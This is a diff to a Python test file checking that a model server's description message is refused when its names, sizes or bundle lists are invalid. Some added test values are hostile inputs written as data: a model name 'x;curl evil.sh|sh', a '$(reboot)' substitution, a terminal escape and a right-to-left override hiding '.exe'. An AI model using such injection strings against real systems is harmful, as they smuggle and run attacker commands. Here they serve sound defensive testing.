@@ -8,7 +8,9 @@ from common.bundle import BundleFile, make_manifest
 from common.protocol.errors import PeerError
 from common.rpc import convert
 from common.rpc.description import ServerDescription
+from common.rpc.description_checks import MOST_BUNDLES, check_description
 from common.rpc.generated.outrider.v1 import outrider_pb2 as pb
+from common.weight_only.modes import QUANTISED
 
 BUNDLE = make_manifest("d", "lookup", "f", [BundleFile("tokenizer/tokenizer.json", 3, "0" * 64)])
 SAID = ServerDescription(1, "0.1", "model", "f", 300, 2048, 512, (0,), ("greedy",), ("eager",), (BUNDLE,))
@@ -48,9 +50,11 @@ ESCAPE = "\x1b]0;owned\x07"
 @pytest.mark.parametrize(
     ("change", "sentence"),
     [
-        *[(put(**{name: ""}), f"a {name} ''; a name has 1 to 255") for name in ("release", "model", "fingerprint")],
+        *[(put(**{name: ""}), f"a {name} ''; a name has 1 to 255") for name in ("release", "fingerprint")],
         *[(put(**{name: ESCAPE}), "']0;owned'") for name in ("release", "model", "fingerprint")],
-        (put(model="m" * 256), "1 to 255 printable characters"),
+        (put(release="r" * 256), "1 to 255 printable characters"),
+        *[(put(model=name), "which nobody could type") for name in ("", "m" * 65, "-m", "x;curl evil.sh|sh", "a b")],
+        (put(models=["a", "$(reboot)"]), "a model '$(reboot)', which nobody could type"),
         (put(vocab_size=0), "a vocabulary of 0, which cannot be"),
         (put(vocab_size=(1 << 22) + 1), "a vocabulary of 4194305"),
         (put(context=1 << 31), "a context of 2147483648"),
@@ -59,9 +63,10 @@ ESCAPE = "\x1b]0;owned\x07"
         (put(rules=["a"] * 65), "65 rules"),
         (put(idle_policies=["eager", "\n"]), "one of its idle policies ''"),
         (put(models=["a"] * 65), "65 models"),
-        (put(models=["a", ESCAPE]), "one of its models ']0;owned'"),
+        (put(models=["a", ESCAPE]), "a model ']0;owned'"),
         (put(models=["a", "b", "a"]), "two of the server's models have the same name"),
         (put(bundles=[pb.Bundle()] * 65), "65 bundles"),
+        (put(quantised=[pb.Bundle()] * 129), "129 quantised bundles"),
         (lambda frame: frame.bundles.append(frame.bundles[0]), "two of the server's bundles"),
         (lambda frame: setattr(frame.bundles[0], "draft", "\u202egnp.exe"), "a draft 'gnp.exe'"),
         (lambda frame: setattr(frame.bundles[0], "kind", "k" * 300), "a kind of draft 'kkkk"),
@@ -88,3 +93,13 @@ def test_what_cannot_be_is_refused(change: Change, sentence: str) -> None:
     assert sentence in str(refused.value)
     assert str(refused.value).isprintable()
     assert len(str(refused.value)) < 500
+
+
+def test_as_many_drafts_as_are_allowed_may_be_offered_in_every_weights_mode() -> None:
+    frame = convert.description_frame(SAID)
+    for count in range(MOST_BUNDLES):
+        for mode in QUANTISED:
+            bundle = frame.quantised.add()
+            bundle.CopyFrom(frame.bundles[0])
+            bundle.draft, bundle.weights = f"draft-{count}", mode
+    check_description(frame)
